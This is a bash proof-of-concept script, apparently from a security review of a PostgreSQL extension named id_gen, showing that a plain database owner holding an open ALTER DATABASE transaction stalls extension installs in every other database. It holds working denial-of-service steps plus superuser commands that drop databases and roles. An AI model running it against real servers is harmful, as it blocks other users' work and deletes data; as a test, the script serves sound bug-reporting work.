#!/bin/bash
# Attack 02: a database owner holding its own pg_db_role_setting row (an open
# ALTER DATABASE ... SET) stalls every other database's claim, not only its own.
# decimal_claim.cpp takes its server-wide advisory lock first, then runs
# ALTER DATABASE <own> SET ..., which waits for the owner's row; meanwhile
# every CREATE EXTENSION id_gen / id_gen.decimal_id_claim() of any other
# database waits for the advisory lock.
# Docs (decimal_id.md, decimal_claim.cpp): "A database owner holding its own
# settings row stalls only its own claim."
# Expected: CREATE EXTENSION id_gen in database victim succeeds at once.
# Actual: it waits (here: canceled by lock_timeout = 3s).
# Usage: P="psql -X -h HOST -p PORT" ./02_owner_row_blocks_all_claims.sh  (as a superuser)
P=${P:-/tmp/r32/p}
q() { db=$1; shift; $P $db -Atqc "$*"; }
for c in "drop database if exists mallorydb" "drop database if exists victim" "drop role if exists mallory" \
         "create role mallory login" "create database mallorydb owner mallory" "create database victim"; do q postgres "$c"; done
# 1. mallory (a plain database owner) holds her database's settings row
( $P mallorydb -U mallory -Atq -c "begin" -c "alter database mallorydb set work_mem = '4MB'" -c "select pg_sleep(20)" -c "commit" >/dev/null & )
sleep 1
# 2. the DBA installs id_gen in mallory's database (it waits for her row, holding the claim lock)
( $P mallorydb -Atq -c "set lock_timeout = '15s'" -c "create extension id_gen" >/dev/null 2>&1 & )
sleep 1
# 3. another database's claim
echo "victim: CREATE EXTENSION id_gen (lock_timeout 3s):"
q victim "set lock_timeout = '3s'; create extension id_gen; select 'claimed generator id', (select generator_id from decimal_id_state())" 2>&1
q victim "select pid, wait_event_type, wait_event, left(query, 60) from pg_stat_activity where datname in ('mallorydb','victim') and state <> 'idle'"
sleep 20
